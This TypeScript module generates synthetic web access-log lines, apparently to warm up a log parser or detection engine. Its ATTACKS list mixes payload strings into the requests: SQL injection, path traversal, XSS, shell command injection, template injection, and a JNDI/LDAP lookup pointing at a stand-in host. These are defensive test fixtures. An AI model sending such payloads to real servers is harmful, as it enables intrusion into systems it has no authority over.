import { encode } from '../base/bytes.ts'

const LINES = 12_000

const AGENTS: readonly ((n: number) => string)[] = [
  (n) => `Mozilla/5.0 (X11; Linux x86_64; rv:${n % 90}.0) Gecko/20100101 Firefox/${n % 90}.0`,
  (n) =>
    `Mozilla/5.0 (iPhone; CPU iPhone OS 17_${n % 7} like Mac OS X) AppleWebKit/605.1.${n % 40} (KHTML, like Gecko) Mobile/15E148`,
  (n) => `curl/8.${n % 12}.0`,
  () => '-',
]

const PAGES: readonly ((n: number) => string)[] = [
  (n) => `/news/${n % 900}/read?n=${n * 7}`,
  (n) => `/assets/${n % 300}/app.${(n * 7919).toString(36)}.js`,
  (n) => `/wiki/${n % 2000}?title=S%C3%A3o+Paulo+${n % 77}&sort=name`,
  (n) => `/api/v2/orders/${n}?from=2026-01-${10 + (n % 20)}&q=select+a+size`,
  () => '/',
]

/** One of each kind of work that rules have: quotes, percent rounds, paths upwards, tags, shells, addresses, templates. */
const ATTACKS: readonly ((n: number) => string)[] = [
  (n) => `/view?id=${n}%27%20or%20${n}=${n}--`,
  (n) => `/view?id=${n}%2527)/**/AnD/**/(sElEcT%201)%3d${n}%23`,
  (n) => `/view?f=..%2f..%2f..%252fetc%2fx${n}%00.html`,
  (n) => `/find?q=%22%3E%3Cimg%20src=x%20onerror=confirm(${n})%3E`,
  (n) => `/run.cgi?ip=1%7Cc''at$IFS/tmp/${n};echo\${x}${n}`,
  (n) => `/go?to=https://198.51.100.${n % 250}/${n}.txt%3f`,
  (n) => `/t?name={{${n}*7}}&x=\${jndi:ldap://192.0.2.${n % 250}/a}`,
  (n) => `/old/${n % 200}/backup.sql.gz`,
  (n) => `/?d=${(n * 99_991).toString(36)}PD9waHAgZWNobyAx${n}`,
]

const of = <T>(list: readonly T[], n: number): T => list[n % list.length] as T

/**
 * Lines that a parser reads while the page waits for files and then forgets: a worker's code is slow until its compiler has
 * seen it run, and the first file is the one that a person waits for. Plain requests and odd ones of all kinds: code that
 * was made for some of them only is thrown away and made again as soon as others come.
 */
export function warmUpText(): Uint8Array {
  let text = ''
  for (let n = 0; n < LINES; n++) {
    const target = n % 8 === 0 ? of(ATTACKS, n >> 3)(n) : of(PAGES, n)(n)
    const referrer = n % 3 === 0 ? '-' : `https://www.example.org/${n % 500}/from?x=${n % 50}`
    const clock = `${10 + (n >> 10)}:${10 + ((n >> 5) % 50)}:${10 + (n % 50)}`
    const method = n % 8 === 0 ? 'POST' : 'GET'
    const status = n % 9 === 0 ? 404 : n % 7 === 0 ? 304 : 200
    const source = n % 20 === 0 ? `2001:db8::${n.toString(16)}` : `198.51.${n % 99}.${n % 250}`
    text += `${source} - - [09/Nov/2026:${clock} +0000] "${method} ${target} HTTP/1.1" ${status} ${status === 304 ? '-' : n * 13} "${referrer}" "${of(AGENTS, n % 7)(n)}"\n`
  }
  return encode(text)
}
